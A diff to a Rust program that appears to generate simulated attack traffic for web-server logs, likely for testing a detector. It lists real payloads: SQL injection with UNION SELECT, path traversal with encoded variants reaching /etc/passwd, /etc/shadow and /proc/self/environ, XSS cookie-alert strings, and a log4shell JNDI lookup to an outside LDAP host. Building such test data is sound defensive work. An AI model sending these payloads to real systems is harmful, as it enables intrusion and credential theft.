@@ -114,23 +114,19 @@ const INJECTIONS: [&str; 10] = [
     "-{}%20OR%201=1",
     "{}%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--",
 ];
-const TRAVERSALS: [&str; 8] = [
-    "/view?file=../../../../etc/passwd",
-    "/view?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
-    "/view?file=....//....//....//etc/passwd",
-    "/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
-    "/../../../../etc/passwd",
-    "/view?file=/etc/shadow",
-    "/images/..%2f..%2f..%2f..%2fetc/passwd",
-    "/view?page=php://filter/convert.base64-encode/resource=index.php",
-];
+/// `^` is a climb of some steps, `{}` a file.
+const TRAVERSALS: [&str; 6] =
+    ["/view?file=^{}", "/view?page=/^{}", "/images/^{}", "/^{}", "/view?file=/{}", "/view?file={}%00.html"];
+const CLIMBS: [&str; 5] = ["../", "..%2f", "....//", "%2e%2e/", "..%252f"];
+const FILES: [&str; 6] =
+    ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "var/log/auth.log"];
 const SCRIPTS: [&str; 6] = [
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
-    "%3Csvg/onload=alert(1)%3E",
-    "javascript:alert(document.cookie)",
-    "%27%22%3E%3Ciframe%20src=javascript:alert(1)%3E",
-    "%3Cbody%20onload=alert(1)%3E",
+    "%3Cscript%3Ealert({})%3C/script%3E",
+    "%22%3E%3Cimg%20src=x%20onerror=alert({})%3E",
+    "%3Csvg/onload=alert({})%3E",
+    "javascript:alert(document.cookie,{})",
+    "%27%22%3E%3Ciframe%20src=javascript:alert({})%3E",
+    "%3Cbody%20onload=alert({})%3E",
 ];
 const LOOKUPS: [&str; 3] = [
     "${jndi:ldap://203.0.113.250:1389/a}",
@@ -228,16 +224,24 @@ impl Writer {
     fn web(&self) -> Vec<Actor> {
         let browser = |random: &mut Random| pick(random, &BROWSERS);
         let guess = |random: &mut Random| (pick(random, &NAMES), pick(random, &PASSWORDS));
-        let injection = |random: &mut Random| pick(random, &INJECTIONS).replace("{}", &random.below(900).to_string());
+        let numbered =
+            |random: &mut Random, list: &[&str]| pick(random, list).replace("{}", &random.below(900).to_string());
+        let traversal = |random: &mut Random| {
+            let climb = pick(random, &CLIMBS).repeat(2 + random.below(7) as usize);
+            pick(random, &TRAVERSALS).replace('^', &climb).replace("{}", &pick(random, &FILES))
+        };
         vec![
             self.actor("web, sensitive files", 80, Some(400), |step, random| {
                 ("198.51.100.37".into(), get(SENSITIVE[(step % 40) as usize], &browser(random)))
             }),
-            self.actor("web, SQL injection", 40, Some(1_000), |_, random| {
-                ("198.51.100.41".into(), get(&format!("/article?id={}", injection(random)), &browser(random)))
+            self.actor("web, SQL injection", 80, Some(300), |_, random| {
+                (
+                    "198.51.100.41".into(),
+                    get(&format!("/article?id={}", numbered(random, &INJECTIONS)), &browser(random)),
+                )
             }),
-            self.actor("web, traversal", 40, Some(1_000), |_, random| {
-                ("198.51.100.53".into(), get(&pick(random, &TRAVERSALS), &browser(random)))
+            self.actor("web, traversal", 80, Some(300), |_, random| {
+                ("198.51.100.53".into(), get(&traversal(random), &browser(random)))
             }),
             self.actor("web, log4shell", 6, Some(3_000), |step, random| {
                 let lookup = LOOKUPS[(step % 3) as usize];
@@ -250,8 +254,8 @@ impl Writer {
                     ),
                 )
             }),
-            self.actor("web, XSS", 40, Some(1_000), |_, random| {
-                ("198.51.100.67".into(), get(&format!("/recherche?q={}", pick(random, &SCRIPTS)), &browser(random)))
+            self.actor("web, XSS", 80, Some(300), |_, random| {
+                ("198.51.100.67".into(), get(&format!("/recherche?q={}", numbered(random, &SCRIPTS)), &browser(random)))
             }),
             self.actor("web, passwords (401)", 60, Some(1_000), |_, random| {
                 let (user, password) = guess(random);
